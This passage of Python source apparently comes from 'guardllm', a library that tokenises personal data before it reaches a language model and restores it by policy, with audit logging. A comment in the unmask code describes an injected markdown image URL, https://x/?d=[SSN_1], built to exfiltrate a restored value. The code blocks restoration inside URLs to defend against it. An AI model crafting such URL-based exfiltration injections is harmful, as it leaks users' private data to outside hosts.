"""``Guard``: the one object users create.

It ties detection (:mod:`guardllm.detect`), the token vault (:mod:`guardllm.tokens`),
the policy (:mod:`guardllm.policy`) and the audit log (:mod:`guardllm.audit`)
together::

    guard = Guard()                                   # memory store, default policy
    masked = guard.mask("Mail jane@acme.com", scope="t1")    # 'Mail [EMAIL_1]'
    guard.unmask(masked, scope="t1", to="user")       # 'Mail jane@acme.com'
    guard.unmask(masked, scope="t1", to="tool:crm")   # stays '[EMAIL_1]' (not granted)

Stores and keys.  ``store=None`` uses ``$GUARDLLM_STORE`` if set, else an
in-process ``memory://`` store with an *ephemeral* random key: tokens then live
as long as the Guard.  A persistent store (``sqlite:///path.db``) needs a master
key from ``key=``, ``$GUARDLLM_KEY`` or ``$GUARDLLM_KEY_FILE`` (``guardllm keygen``
makes one); without it the Guard raises :class:`~guardllm.errors.KeyMissingError`
instead of inventing a key that would be lost.

Fail closed: if detection or the vault fails, ``mask`` raises
(:class:`~guardllm.errors.DetectionError` / :class:`~guardllm.errors.VaultError`)
rather than return raw text.  ``fail_open=True`` returns the text unmasked
instead and writes a ``fail_open`` audit record.
"""

from __future__ import annotations

import asyncio
import bisect
import contextlib
import dataclasses
import functools
import getpass
import hashlib
import html
import json
import os
import re
import secrets
import threading
import unicodedata
import urllib.parse
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from guardllm.audit import AuditLog, run_context
from guardllm.errors import BlockedError, DetectionError, GuardError, InputError, KeyMissingError, VaultError
from guardllm.policy import Decision, Policy, as_policy
from guardllm.stores import is_persistent, open_store, resolve_url
from guardllm.stores.base import Store, VaultEntry
from guardllm.tokens import surrogates
from guardllm.tokens.crypto import HOW_TO_CREATE, KeyRing, load_master_key, load_previous_key, parse_key
from guardllm.tokens.format import (
    TOKEN_RE,
    TokenRef,
    bare_token_re,
    canonical,
    is_secret,
    label_for,
    redacted,
)
from guardllm.tokens.streaming import StreamRestorer
from guardllm.tokens.vault import Vault

DEFAULT_SCOPE = "default"
_MIN_REPEAT = 4  # shorter values are too likely to occur inside unrelated words
MAX_INPUT_CHARS = 50_000_000
MAX_DEPTH = 64

# Entity types whose labels are recognised bare (``EMAIL_1`` without brackets) even
# before this process issued one (another process may have).
_KNOWN_TYPES = (
    "PERSON",
    "EMAIL_ADDRESS",
    "PHONE_NUMBER",
    "CREDIT_CARD",
    "US_SSN",
    "IBAN_CODE",
    "IP_ADDRESS",
    "LOCATION",
    "DATE_TIME",
    "US_PASSPORT",
    "US_DRIVER_LICENSE",
    "US_BANK_NUMBER",
    "MEDICAL_LICENSE",
    "UK_NHS",
    "CRYPTO",
    "MAC_ADDRESS",
    "URL",
    "MEDICAL_RECORD_NUMBER",
)


@dataclass(frozen=True)
class MaskResult:
    """Masked text plus a reference (token, type, fingerprint, action) per masked value."""

    text: str
    entities: list[TokenRef] = field(default_factory=list)

    def __str__(self) -> str:
        return self.text

    @property
    def counts(self) -> dict[str, int]:
        return dict(Counter(r.entity_type for r in self.entities))


@dataclass(frozen=True)
class UnmaskResult:
    """Restored text, what was revealed, what the policy refused, and how many
    token-shaped strings this scope never issued (``foreign``)."""

    text: str
    revealed: list[TokenRef] = field(default_factory=list)
    refused: list[TokenRef] = field(default_factory=list)
    foreign: int = 0

    def __str__(self) -> str:
        return self.text


@dataclass
class _Candidate:
    start: int
    end: int
    canon: str
    kind: str  # "bracket" | "bare" | "surrogate"
    surface: str


@dataclass
class _Acc:
    """What one call (text or object) revealed/refused, for a single audit pass."""

    revealed: list[tuple[TokenRef, str]] = field(default_factory=list)  # (ref, rule)
    refused: list[tuple[TokenRef, str]] = field(default_factory=list)
    foreign: int = 0
    masked: list[TokenRef] = field(default_factory=list)


def default_principal() -> str:
    """Who runs this process when no principal is given: ``local:<os user>``."""
    try:
        return f"local:{getpass.getuser()}"
    except Exception:
        return "local:unknown"


def _run_scoped(fn: Callable[..., Any]) -> Callable[..., Any]:
    """``run_id=`` on a public call: its audit records name that lineage run."""

    @functools.wraps(fn)
    def wrapper(self: Guard, *args: Any, run_id: str | None = None, **kw: Any) -> Any:
        if run_id is None:
            return fn(self, *args, **kw)
        with run_context(run_id):
            return fn(self, *args, **kw)

    return wrapper


class Guard:
    """Mask, reveal by policy, and record.  Thread- and async-safe; share one per process."""

    def __init__(
        self,
        policy: Policy | str | Path | Mapping[str, Any] | None = None,
        store: str | Store | None = None,
        principal: str | None = None,
        *,
        detector: Any = None,
        key: str | bytes | os.PathLike[str] | None = None,
        fail_open: bool = False,
        tenant: str | None = None,
        scope: str = DEFAULT_SCOPE,
        restore_in_urls: bool | None = None,
    ) -> None:
        self.policy: Policy = as_policy(policy)
        # None: the policy decides (``restore_in_urls``, off by default)
        self.restore_in_urls = restore_in_urls
        master = load_master_key(key)
        if master is None and not isinstance(store, Store):
            url = resolve_url(store)
            if not url.startswith("memory:"):  # fail before creating a database nobody can read
                raise KeyMissingError(
                    f"no encryption key configured for the persistent store {url}; {HOW_TO_CREATE}"
                )
        self._store = open_store(store)
        ephemeral = False
        if master is None:
            if is_persistent(self._store):
                raise KeyMissingError(
                    f"no encryption key configured for the persistent store {self._store.url}; "
                    f"{HOW_TO_CREATE}"
                )
            master, ephemeral = secrets.token_bytes(32), True  # memory:// lives and dies with this key
        try:
            self._vault = Vault(self._store, KeyRing(master, load_previous_key(), ephemeral=ephemeral))
        except BaseException:
            if not isinstance(store, Store):
                self._store.close()  # we opened it; do not leak the connection
            raise
        self.principal: str = principal or default_principal()
        self.audit = AuditLog(self._store, principal=self.principal, mac_key=self._vault.audit_key)
        self.detector = detector
        self.fail_open = fail_open
        self.tenant = tenant
        self.default_scope = scope
        self._recorder: Any = None
        self._lock = threading.Lock()
        self._clean_keys: dict[str, None] = {}
        self._clean_keys_for: Any = detector
        self._unchanged: set[bytes] = set()
        self._unchanged_for: tuple[Any, Any] = (detector, self.policy)

    def __repr__(self) -> str:
        return (
            f"Guard(store={self._store.url!r}, principal={self.principal!r}, "
            f"key={self._vault.keyring.master_id}{' (ephemeral)' if self._vault.keyring.ephemeral else ''})"
        )

    # ------------------------------------------------------------------ views
    @property
    def store(self) -> Store:
        return self._store

    @property
    def vault(self) -> Vault:
        return self._vault

    def with_policy(self, policy: Policy | str | Path | Mapping[str, Any]) -> Guard:
        """A Guard sharing this one's store, vault, keys and audit log, under another policy."""
        clone = object.__new__(Guard)
        clone.__dict__.update(self.__dict__)
        clone.policy = as_policy(policy)
        return clone

    def with_tool_grant(self, tool_name: str, entity_types: Iterable[str]) -> Guard:
        """A view whose policy also lets ``tool:<tool_name>`` see ``entity_types`` raw."""
        return self.with_policy(self.policy.with_tool_grant(tool_name, entity_types))

    def with_principal(self, principal: str) -> Guard:
        """A view acting for another principal by default."""
        clone = self.with_policy(self.policy)
        clone.principal = principal
        clone.audit = AuditLog(self._store, principal=principal, mac_key=self._vault.audit_key)
        return clone

    def _scope(self, scope: str | None) -> str:
        s = self.default_scope if scope is None else str(scope)
        if not s:
            raise InputError("scope must be a non-empty string")
        return f"{_tenant_prefix(self.tenant)}/{s}" if self.tenant else s

    def _subject(self, subject: str | None) -> str | None:
        """The data-subject id as the vault sees it: qualified by the tenant, so that
        ``cust-1`` of one tenant and ``cust-1`` of another never share a key (and one
        tenant's erasure request cannot erase another tenant's customer)."""
        if subject is None:
            return None
        if not isinstance(subject, str) or not subject:
            raise InputError("subject must be a non-empty string (a data subject id)")
        return f"{_tenant_prefix(self.tenant)}/{subject}" if self.tenant else subject

    def _who(self, principal: str | None) -> str:
        return principal or self.principal

    # ------------------------------------------------------------------ detection
    def _scan(self, text: str) -> list[Any]:
        try:
            if self.detector is not None:
                findings = self.detector.scan(text)
            else:
                from guardllm.detect import scan

                findings = scan(text)
        except GuardError:
            raise
        except Exception as exc:
            failed = type(exc).__name__
        else:
            return sorted(findings, key=lambda f: (f.start, -f.end))
        # raised outside the except block: the detector's exception (its message may hold
        # the raw input) must not stay reachable as a suppressed __context__
        raise DetectionError(f"detection failed ({failed}); nothing was let through")

    @staticmethod
    def _text(text: Any) -> str:
        if isinstance(text, str):
            s = text
        elif isinstance(text, bytes | bytearray):
            try:
                s = bytes(text).decode("utf-8")
            except UnicodeDecodeError:
                raise InputError("input is not valid UTF-8 text") from None
        else:
            raise InputError(f"expected text (str), got {type(text).__name__}")
        if len(s) > MAX_INPUT_CHARS:
            raise InputError(f"input of {len(s)} characters exceeds the {MAX_INPUT_CHARS} character limit")
        return s

    # ------------------------------------------------------------------ mask
    @_run_scoped
    def mask(
        self,
        text: str,
        *,
        scope: str | None = None,
        principal: str | None = None,
        source: str | None = None,
        subject: str | None = None,
        run_id: str | None = None,
    ) -> str:
        """``text`` with every sensitive value replaced as the policy says (tokens by default)."""
        return self.mask_result(text, scope=scope, principal=principal, source=source, subject=subject).text

    @_run_scoped
    def mask_result(
        self,
        text: str,
        *,
        scope: str | None = None,
        principal: str | None = None,
        source: str | None = None,
        subject: str | None = None,
        run_id: str | None = None,
    ) -> MaskResult:
        """Like :meth:`mask`, also listing each masked value's :class:`TokenRef`."""
        s = self._text(text)
        sc, who, subject = self._scope(scope), self._who(principal), self._subject(subject)
        try:
            self._vault.sync()
            out, refs = self._mask_text(s, sc, who, subject, source)
        except (DetectionError, VaultError) as exc:
            return self._failed(exc, s, sc, who, source)
        except BlockedError:
            raise
        except GuardError:
            raise
        except Exception as exc:
            return self._failed(
                VaultError(f"token vault failed ({type(exc).__name__}); nothing was let through"),
                s,
                sc,
                who,
                source,
            )
        self._audit_mask(refs, sc, who, source, subject)
        return MaskResult(out, refs)

    @_run_scoped
    def mask_value(
        self,
        value: Any,
        entity_type: str,
        *,
        scope: str | None = None,
        principal: str | None = None,
        source: str | None = None,
        subject: str | None = None,
        run_id: str | None = None,
    ) -> MaskResult:
        """Mask a whole value known to be of ``entity_type`` (a classified column, a form field)."""
        s = self._text(value if isinstance(value, str | bytes | bytearray) else str(value))
        sc, who, subject = self._scope(scope), self._who(principal), self._subject(subject)
        if not s.strip():
            return MaskResult(s, [])
        try:
            self._vault.sync()
            finding = _WholeValue(entity_type, 0, len(s), s)
            out, refs = self._apply(s, [finding], sc, who, subject)
        except BlockedError:
            raise
        except GuardError as exc:
            if isinstance(exc, DetectionError | VaultError):
                return self._failed(exc, s, sc, who, source)
            raise
        except Exception as exc:
            return self._failed(VaultError(f"token vault failed ({type(exc).__name__})"), s, sc, who, source)
        self._audit_mask(refs, sc, who, source, subject)
        return MaskResult(out, refs)

    def _failed(self, exc: GuardError, text: str, scope: str, who: str, source: str | None) -> MaskResult:
        if not self.fail_open:
            raise exc
        self.audit.record("fail_open", principal=who, scope=scope, source=source, detail=type(exc).__name__)
        return MaskResult(text, [])

    def _mask_text(
        self, text: str, scope: str, who: str, subject: str | None, source: str | None
    ) -> tuple[str, list[TokenRef]]:
        findings = self._scan(text)
        if not findings:
            return text, []
        return self._apply(text, findings, scope, who, subject)

    def _apply(
        self, text: str, findings: Sequence[Any], scope: str, who: str, subject: str | None
    ) -> tuple[str, list[TokenRef]]:
        parts: list[str] = []
        refs: list[TokenRef] = []
        done: dict[str, tuple[str, TokenRef]] = {}
        pos = 0
        for f in _merge_overlaps(findings):
            replacement, ref = self._replace(text[f.start : f.end], f.entity_type, scope, who, subject)
            if ref is None:
                continue
            parts.append(text[pos : f.start])
            parts.append(replacement)
            refs.append(ref)
            done.setdefault(text[f.start : f.end], (replacement, ref))
            pos = f.end
        parts.append(text[pos:])
        out = "".join(parts)
        # Defence in depth: a value the detector found once is masked wherever else it
        # appears verbatim (a detector that misses a repeat must not half-mask the text).
        for value, (replacement, ref) in done.items():
            if len(value) >= _MIN_REPEAT and value in out:
                pattern = re.compile(rf"(?<![0-9A-Za-z]){re.escape(value)}(?![0-9A-Za-z])")
                out, n = pattern.subn(lambda _m, r=replacement: r, out)
                refs.extend([ref] * n)
        return out, refs

    def _replace(
        self, value: str, etype: str, scope: str, who: str, subject: str | None
    ) -> tuple[str, TokenRef | None]:
        action = self.policy.action_for(etype)
        if action == "allow" and not is_secret(etype):
            return value, None
        if action == "block":
            rule = self.policy.action_rule(etype)
            fp = self._vault.fingerprint(etype, value)
            self.audit.record(
                "block", principal=who, scope=scope, entity_type=etype, fingerprints=[fp], rule=rule
            )
            raise BlockedError(
                f"the policy blocks {etype} (rule {rule}); the step was refused", entity_type=etype, rule=rule
            )
        if action == "hash":  # secrets too, when the policy says so: a keyed hash reveals nothing
            h = f"[{label_for(etype)}:{self._vault.keyed_hash(etype, value)}]"
            return h, TokenRef(h, etype, self._vault.fingerprint(etype, value), "hash")
        if is_secret(etype) or action == "redact":
            return redacted(etype), TokenRef(
                redacted(etype), etype, self._vault.fingerprint(etype, value), "redact"
            )
        if action == "mask":
            m = keep_last4(value)
            return m, TokenRef(m, etype, self._vault.fingerprint(etype, value), "mask")
        # reversible: the value may already be one of this scope's tokens or surrogates
        already = self._issued_form(value, scope)
        if already is not None:
            return value, None
        ref = self._vault.tokenize(scope, etype, value, subject=subject, surrogate=(action == "surrogate"))
        return ref.token, ref

    def _issued_form(self, value: str, scope: str) -> VaultEntry | None:
        m = TOKEN_RE.fullmatch(value)
        if m:
            canon = canonical(m.group("label"), m.group("n"))
        else:
            if not self._surrogates_on():  # no surrogate was ever issued here to match
                return None
            m2 = surrogates.SURROGATE_RE.fullmatch(value)
            if not m2:
                return None
            canon = surrogates.canonical_surrogate(m2)
        return self._vault.lookup(scope, [canon]).get(canon)

    def _audit_mask(
        self, refs: Sequence[TokenRef], scope: str, who: str, source: str | None, subject: str | None
    ) -> None:
        if not refs:
            return
        counts = Counter(r.entity_type for r in refs)
        self.audit.record(
            "mask",
            principal=who,
            scope=scope,
            source=source,
            recipient="model",
            entity_types=sorted(counts),
            counts=dict(counts),
            fingerprints=sorted({r.fingerprint for r in refs}),
            detail=",".join(sorted({r.action for r in refs})),
            subject=self._vault.subject_id(subject) if subject else None,
        )

    @_run_scoped
    def mask_object(
        self,
        obj: Any,
        *,
        scope: str | None = None,
        principal: str | None = None,
        source: str | None = None,
        subject: str | None = None,
        run_id: str | None = None,
    ) -> Any:
        """A copy of ``obj`` (dicts, lists, tuples) with every string leaf masked; one audit record."""
        sc, who, subject = self._scope(scope), self._who(principal), self._subject(subject)
        return self._mask_object(obj, sc, who, subject, source)[0]

    def _mask_object(
        self, obj: Any, sc: str, who: str, subject: str | None, source: str | None
    ) -> tuple[Any, list[TokenRef] | None]:
        """``(masked copy, what was replaced)``; ``None`` when ``fail_open`` let it through."""
        refs: list[TokenRef] = []
        try:
            self._vault.sync()
            out = self._walk_mask(obj, sc, who, subject, refs, None, 0)
        except BlockedError:
            raise
        except (DetectionError, VaultError) as exc:
            if not self.fail_open:
                raise
            self.audit.record("fail_open", principal=who, scope=sc, source=source, detail=type(exc).__name__)
            return obj, None
        self._audit_mask(refs, sc, who, source, subject)
        return out, refs

    # Agents send the whole history to the model on every call, so each tool result and
    # tool-call argument set is masked again at every later step (a 40-step run walked
    # ~800 of them).  The detector caches its texts, but not the walk over an object; so
    # payloads that masked to themselves in a scope -- already masked, or nothing to mask
    # -- are remembered there as a 16-byte digest of their JSON (never the text) and
    # handed back as they are.  Bounded; tied to this guard's detector and policy.
    def _mask_parsed(
        self, text: str, parsed: Any, *, scope: str | None, principal: str | None
    ) -> tuple[Any, bool]:
        """``(masked, changed)`` for ``parsed``, the object the JSON ``text`` stands for."""
        sc, who = self._scope(scope), self._who(principal)
        h = hashlib.blake2b(sc.encode("utf-8", "surrogatepass"), digest_size=16, person=b"unchanged")
        h.update(b"\0" + text.encode("utf-8", "surrogatepass"))
        digest = h.digest()
        owner = self._unchanged_for
        if owner[0] is not self.detector or owner[1] is not self.policy:
            self._unchanged, self._unchanged_for = set(), (self.detector, self.policy)
        if digest in self._unchanged:
            return parsed, False
        masked, refs = self._mask_object(parsed, sc, who, None, None)
        if refs is None:  # fail_open let it through: not a result to remember
            return masked, masked is not parsed
        if refs:
            return masked, True
        if len(self._unchanged) >= _UNCHANGED_MAX:
            self._unchanged = set()  # a new set: views made by with_policy() keep theirs
        self._unchanged.add(digest)
        return parsed, False

    def _mask_json_text(self, text: str, parsed: Any, *, scope: str | None, principal: str | None) -> str:
        """JSON ``text`` (already parsed into ``parsed``) masked field by field, as JSON text;
        the text itself, as it was, when nothing in it needed masking."""
        masked, changed = self._mask_parsed(text, parsed, scope=scope, principal=principal)
        return json.dumps(masked, ensure_ascii=False) if changed else text

    def _walk_mask(
        self,
        obj: Any,
        scope: str,
        who: str,
        subject: str | None,
        refs: list[TokenRef],
        key: str | None,
        depth: int,
    ) -> Any:
        try:
            if self.detector is not None and hasattr(self.detector, "scan_object"):
                findings = self.detector.scan_object(obj)
            elif self.detector is not None:
                findings = None
            else:
                from guardllm.detect import scan_object

                findings = scan_object(obj)
        except GuardError:
            raise
        except Exception as exc:
            failed: str | None = type(exc).__name__
        else:
            failed = None
        if failed is not None:  # outside the except block: no reachable __context__
            raise DetectionError(f"detection failed ({failed}); nothing was let through")
        if findings is None:  # a text-only detector: scan leaf by leaf
            out = self._walk_leaves(obj, scope, who, subject, refs, 0)
            return self._mask_keys(out, scope, who, subject, refs, 0, set(), {})
        by_path: dict[tuple[Any, ...], list[Any]] = {}
        prefixes: set[tuple[Any, ...]] = set()
        for f in findings:
            path = tuple(getattr(f, "path", ()) or ())
            by_path.setdefault(path, []).append(f)
            for i in range(len(path)):
                prefixes.add(path[:i])
        if not by_path:
            return self._mask_keys(obj, scope, who, subject, refs, 0, set(), {})

        def rebuild(node: Any, path: tuple[Any, ...], depth: int) -> Any:
            if depth > MAX_DEPTH:
                raise InputError(f"object nested deeper than {MAX_DEPTH} levels")
            here = by_path.get(path)
            if here is not None and not isinstance(node, Mapping | list | tuple):
                text = (
                    node.decode("utf-8")
                    if isinstance(node, bytes | bytearray)
                    else (node if isinstance(node, str) else str(node))
                )
                out, r = self._apply(text, sorted(here, key=lambda f: (f.start, -f.end)), scope, who, subject)
                refs.extend(r)
                return out
            if path not in prefixes:
                return node
            if isinstance(node, Mapping):
                return {k: rebuild(v, (*path, str(k)), depth + 1) for k, v in node.items()}
            if isinstance(node, tuple) and hasattr(node, "_asdict"):
                return type(node)(
                    *(rebuild(v, (*path, str(k)), depth + 1) for k, v in node._asdict().items())
                )
            if isinstance(node, list | tuple):
                items = [rebuild(v, (*path, i), depth + 1) for i, v in enumerate(node)]
                return tuple(items) if isinstance(node, tuple) else items
            if isinstance(node, set | frozenset):  # the detector numbers set items in repr order
                items = [rebuild(v, (*path, i), depth + 1) for i, v in enumerate(sorted(node, key=repr))]
                return type(node)(items)
            mapping = _as_mapping(node)
            if mapping is not None:  # rows, dataclasses, models: masked as a plain dict
                return {k: rebuild(v, (*path, str(k)), depth + 1) for k, v in mapping.items()}
            # fail closed: a value was found inside something we cannot rebuild
            raise InputError(
                f"cannot mask inside a {type(node).__name__} at {_fmt_path(path)}; "
                "pass dicts, lists, tuples or dataclasses"
            )

        return self._mask_keys(rebuild(obj, (), 0), scope, who, subject, refs, 0, set(), {})

    def _mask_keys(
        self,
        node: Any,
        scope: str,
        who: str,
        subject: str | None,
        refs: list[TokenRef],
        depth: int,
        stack: set[int],
        done: dict[str, str],
    ) -> Any:
        """``node`` with every string dict key masked (``{email: ...}`` must not leak the key),
        rebuilt only where a key changed; a cycle is refused (the unmasked inner cycle would
        otherwise come back as it was)."""
        if node.__class__ in _LEAVES or isinstance(node, str | bytes | bytearray | int | float | bool):
            return node
        if depth > MAX_DEPTH:
            raise InputError(f"object nested deeper than {MAX_DEPTH} levels")
        if id(node) in stack:
            raise InputError("cannot mask a cyclic object (it contains itself)")
        stack.add(id(node))
        clean = self._clean_keys if self._clean_keys_for is self.detector else {}
        try:
            if isinstance(node, Mapping):
                pairs = []
                changed = False
                for k, v in node.items():
                    nk = k
                    if k.__class__ is str and k in clean:
                        pass  # the common case, decided without a call
                    elif isinstance(k, str) and k:
                        nk = done.get(k)
                        if nk is None:
                            findings = self._scan_key(k)
                            if findings:
                                nk, r = self._apply(k, findings, scope, who, subject)
                                refs.extend(r)
                            else:
                                nk = k
                                self._remember_clean_key(k)
                            done[k] = nk
                    nv = (
                        v
                        if v.__class__ in _LEAVES
                        else self._mask_keys(v, scope, who, subject, refs, depth + 1, stack, done)
                    )
                    changed = changed or nk is not k or nv is not v
                    pairs.append((nk, nv))
                return dict(pairs) if changed else node
            if isinstance(node, list | tuple):
                items = [
                    v
                    if v.__class__ in _LEAVES
                    else self._mask_keys(v, scope, who, subject, refs, depth + 1, stack, done)
                    for v in node
                ]
                if all(a is b for a, b in zip(items, node, strict=True)):
                    return node
                if isinstance(node, tuple):
                    return type(node)(*items) if hasattr(node, "_fields") else tuple(items)
                return items
            mapping = _as_mapping(node)
            if mapping is not None:
                plain = dict(mapping)
                out = self._mask_keys(plain, scope, who, subject, refs, depth + 1, stack, done)
                return node if out is plain else out
            return node
        finally:
            stack.discard(id(node))

    def _remember_clean_key(self, key: str) -> None:
        """Note a dict key the detector found nothing in.

        Tool results repeat the same few keys (``status``, ``email``, ``rows``) on every
        call; scanning them again was ~5% of a wrapped tool call.  Only keys without
        findings are kept (never a value), bounded, and forgotten if ``detector`` changes.
        """
        if self._clean_keys_for is not self.detector:
            self._clean_keys, self._clean_keys_for = {}, self.detector
        if len(self._clean_keys) >= _CLEAN_KEYS_MAX:
            self._clean_keys = {}
        if len(key) <= _CLEAN_KEY_LEN:
            self._clean_keys[key] = None

    def _scan_key(self, key: str) -> list[Any]:
        """Findings in a dict key.  A plug-in with ``scan_object`` answers for the values of
        the object it is given (the SQL runner hands over a planned table and refuses
        ``scan``), so its keys go through the built-in detector instead."""
        if self.detector is None or not hasattr(self.detector, "scan_object"):
            return self._scan(key)
        try:
            from guardllm.detect import scan

            found = scan(key)
        except Exception as exc:
            failed = type(exc).__name__
        else:
            return sorted(found, key=lambda f: (f.start, -f.end))
        raise DetectionError(f"detection failed ({failed}); nothing was let through")  # no __context__

    def _walk_leaves(
        self, obj: Any, scope: str, who: str, subject: str | None, refs: list[TokenRef], depth: int
    ) -> Any:
        if depth > MAX_DEPTH:
            raise InputError(f"object nested deeper than {MAX_DEPTH} levels")
        if isinstance(obj, str):
            findings = self._scan(obj) if obj else []
            if not findings:
                return obj
            out, r = self._apply(obj, findings, scope, who, subject)
            refs.extend(r)
            return out
        if isinstance(obj, Mapping):
            return {k: self._walk_leaves(v, scope, who, subject, refs, depth + 1) for k, v in obj.items()}
        if isinstance(obj, list | tuple):
            items = [self._walk_leaves(v, scope, who, subject, refs, depth + 1) for v in obj]
            if isinstance(obj, tuple):
                return type(obj)(*items) if hasattr(obj, "_fields") else tuple(items)
            return items
        # the same shapes the object detector path rebuilds, so a text-only detector is not
        # a way around masking (sets, bytes, dataclasses / models / rows)
        if isinstance(obj, bytes | bytearray):
            try:
                text = bytes(obj).decode("utf-8")
            except UnicodeDecodeError:
                return obj  # not text: nothing a text detector can read
            out = self._walk_leaves(text, scope, who, subject, refs, depth + 1)
            return obj if out == text else out
        if isinstance(obj, set | frozenset):
            items = [
                self._walk_leaves(v, scope, who, subject, refs, depth + 1) for v in sorted(obj, key=repr)
            ]
            return type(obj)(items)
        mapping = _as_mapping(obj)
        if mapping is not None:
            out = self._walk_leaves(dict(mapping), scope, who, subject, refs, depth + 1)
            return obj if out == dict(mapping) else out
        if obj is None or isinstance(obj, int | float | bool):
            return obj
        # any other object: masked as its text when that holds a value (as the object
        # detector path does), else left as it is
        text = str(obj)
        findings = self._scan(text) if text else []
        if not findings:
            return obj
        out, r = self._apply(text, findings, scope, who, subject)
        refs.extend(r)
        return out

    # ------------------------------------------------------------------ unmask
    @_run_scoped
    def unmask(
        self,
        text: str,
        *,
        scope: str | None = None,
        to: str = "user",
        principal: str | None = None,
        purpose: str | None = None,
        run_id: str | None = None,
    ) -> str:
        """Tokens of this scope replaced by their values where the policy lets ``to`` see them."""
        return self.unmask_result(text, scope=scope, to=to, principal=principal, purpose=purpose).text

    @_run_scoped
    def unmask_result(
        self,
        text: str,
        *,
        scope: str | None = None,
        to: str = "user",
        principal: str | None = None,
        purpose: str | None = None,
        run_id: str | None = None,
    ) -> UnmaskResult:
        """Like :meth:`unmask`, also listing revealed and refused tokens and counting foreign ones."""
        s = self._text(text)
        sc, who = self._scope(scope), self._who(principal)
        self._check_recipient(to)
        acc = _Acc()
        self._vault.sync()
        out = self._unmask_text(s, sc, to, who, purpose, acc)
        self._audit_unmask(acc, sc, to, who, purpose)
        return UnmaskResult(out, [r for r, _ in acc.revealed], [r for r, _ in acc.refused], acc.foreign)

    @_run_scoped
    def unmask_object(
        self,
        obj: Any,
        *,
        scope: str | None = None,
        to: str = "user",
        principal: str | None = None,
        purpose: str | None = None,
        run_id: str | None = None,
    ) -> Any:
        """A copy of ``obj`` with tokens restored in every string leaf (and dict key); one audit pass."""
        sc, who = self._scope(scope), self._who(principal)
        self._check_recipient(to)
        acc = _Acc()
        self._vault.sync()

        def walk(o: Any, depth: int) -> Any:
            if depth > MAX_DEPTH:
                raise InputError(f"object nested deeper than {MAX_DEPTH} levels")
            if isinstance(o, str):
                return self._unmask_text(o, sc, to, who, purpose, acc)
            if isinstance(o, Mapping):
                return {
                    walk(k, depth + 1) if isinstance(k, str) else k: walk(v, depth + 1) for k, v in o.items()
                }
            if isinstance(o, list):
                return [walk(v, depth + 1) for v in o]
            if isinstance(o, tuple):
                items = [walk(v, depth + 1) for v in o]
                return type(o)(*items) if hasattr(o, "_fields") else tuple(items)
            return o

        out = walk(obj, 0)
        self._audit_unmask(acc, sc, to, who, purpose)
        return out

    @staticmethod
    def _check_recipient(to: str) -> None:
        if not isinstance(to, str):
            raise InputError(
                f"recipient must be a string like 'user' or 'tool:<name>', not {type(to).__name__}"
            )
        kind, _, name = to.partition(":")
        if kind in ("user", "model") and not name:
            return
        if kind in ("tool", "role", "principal") and name:
            return
        raise InputError(
            f"unknown recipient {to!r}: use 'user', 'model', 'tool:<name>', 'role:<name>' or 'principal:<id>'"
        )

    def _pattern(self) -> re.Pattern[str]:
        labels = frozenset(self._vault.issued_labels) | _known_labels()
        return _combined_pattern(labels, self._surrogates_on())

    def _surrogates_on(self) -> bool:
        return self._vault.surrogates_issued or self.policy.uses_surrogates()

    def _candidates(self, text: str, start: int = 0) -> list[_Candidate]:
        """Token-shaped spans (and surrogates, when in use), sorted and non-overlapping.

        Every token contains ``_`` followed by a digit, so the tolerant pattern only runs
        in small windows around those spots: a 2 KB text costs a few ``str.find`` calls
        instead of a full regex pass, and the cost stays linear in the input.
        """
        out = _canonical_candidates(text, start)
        if out is None:
            out = self._tolerant_candidates(text, start)
        if self._surrogates_on():
            spans = [(c.start, c.end) for c in out]
            for m in surrogates.SURROGATE_RE.finditer(text, start):
                if any(a < m.end() and m.start() < b for a, b in spans):
                    continue
                out.append(
                    _Candidate(m.start(), m.end(), surrogates.canonical_surrogate(m), "surrogate", m.group(0))
                )
            out.sort(key=lambda c: c.start)
        return out

    def _tolerant_candidates(self, text: str, start: int = 0) -> list[_Candidate]:
        """Token-shaped spans in every tolerated form (no surrogates), in order."""
        out: list[_Candidate] = []
        pat = _token_pattern(frozenset(self._vault.issued_labels) | _known_labels())
        n = len(text)
        windows: list[list[int]] = []
        i = text.find("_", start)
        while i != -1:
            if i + 1 < n and "0" <= text[i + 1] <= "9":
                ws, we = max(start, i - _WINDOW_BEFORE), min(n, i + _WINDOW_AFTER)
                if windows and ws <= windows[-1][1]:
                    windows[-1][1] = we
                else:
                    windows.append([ws, we])
            i = text.find("_", i + 1)
        for ws, we in windows:
            # A match (either branch) is made only of _RUN_CHAR characters, so none starts
            # before the run holding the window's first ``_<digit>``: skip the text before it.
            j, ws0 = text.find("_", ws), ws
            while j > ws0 and _RUN_CHAR.match(text, j - 1) is not None:
                j -= 1
            ws = max(ws0, j)
            # Nor does one run past the end of the run holding the window's last ``_<digit>``
            # (the one at ``we - _WINDOW_AFTER`` unless the text ended first).
            if we < n:
                we = min(we, _RUN.match(text, we - _WINDOW_AFTER).end())
            for m in pat.finditer(text, ws, we):
                if m.lastgroup == "tok":
                    out.append(
                        _Candidate(
                            m.start(),
                            m.end(),
                            canonical(m.group("label"), m.group("n")),
                            "bracket",
                            m.group(0),
                        )
                    )
                else:
                    out.append(
                        _Candidate(
                            m.start(),
                            m.end(),
                            canonical(m.group("blabel"), m.group("bn")),
                            "bare",
                            m.group(0),
                        )
                    )
        return out

    def _unmask_text(
        self, text: str, scope: str, to: str, who: str, purpose: str | None, acc: _Acc, start: int = 0
    ) -> str:
        cands = self._candidates(text, start)
        if not cands:
            return text
        entries = self._vault.lookup(scope, {c.canon for c in cands})
        roles = self.policy.roles_of(who)
        in_urls = self.restore_in_urls if self.restore_in_urls is not None else self.policy.restore_in_urls
        # Spans where a restored value would land inside a URL the reader's UI may fetch
        # on its own (image, link, tag attribute): an injected ![](https://x/?d=[SSN_1])
        # must not turn into a request carrying the value.  The whole text is scanned,
        # text[:start] included, so a streamed piece sees the URL it continues.
        url_spans = [] if in_urls else _url_spans(text)
        parts: list[str] = [text[:start]] if start else []
        pos = start
        for c in cands:
            entry = entries.get(c.canon)
            if entry is None:
                if (
                    c.kind == "bracket" or (c.kind == "bare" and _bracketed(text, c.start, c.end))
                ) and c.canon[1 : c.canon.rindex("_")] in self._pattern_labels():
                    acc.foreign += 1  # a bare label between look-alike brackets (\uff3bEMAIL_1\uff3d) too
                continue
            ref = TokenRef(
                entry.token,
                entry.entity_type,
                entry.fingerprint,
                "surrogate" if c.kind == "surrogate" else "tokenize",
            )
            if url_spans and _inside(url_spans, c.start):
                acc.refused.append((ref, "url-context"))
                continue
